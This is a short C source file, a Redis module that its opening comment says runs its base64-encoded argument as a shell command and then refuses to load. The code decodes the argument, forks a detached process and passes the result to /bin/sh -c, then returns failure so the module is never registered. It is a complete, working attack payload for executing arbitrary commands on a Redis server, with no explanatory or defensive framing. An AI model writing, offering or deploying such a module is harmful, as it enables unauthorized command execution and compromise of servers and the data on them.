/* A Redis module that runs its argument (base64) as a shell's command and then refuses to be loaded. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int value(int c) {
    const char *set = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const char *at = c ? strchr(set, c) : 0;
    return at ? at - set : -1;
}

int RedisModule_OnLoad(void **context, void **arguments, int count) {
    int (*api)(const char *, void *) = context[0];
    const char *(*text)(void *, size_t *) = 0;
    size_t length = 0, out = 0;
    if (count < 1 || api("RedisModule_StringPtrLen", &text)) return 1;
    const char *encoded = text(arguments[0], &length);
    char *command = calloc(1, length + 1);
    int bits = 0, kept = 0;
    for (size_t at = 0; at < length && value(encoded[at]) >= 0; at++) {
        bits = bits << 6 | value(encoded[at]);
        if ((kept += 6) >= 8) command[out++] = bits >> (kept -= 8) & 255;
    }
    if (!fork()) {
        setsid();
        execl("/bin/sh", "sh", "-c", command, (char *)0);
        _exit(127);
    }
    return 1;
}
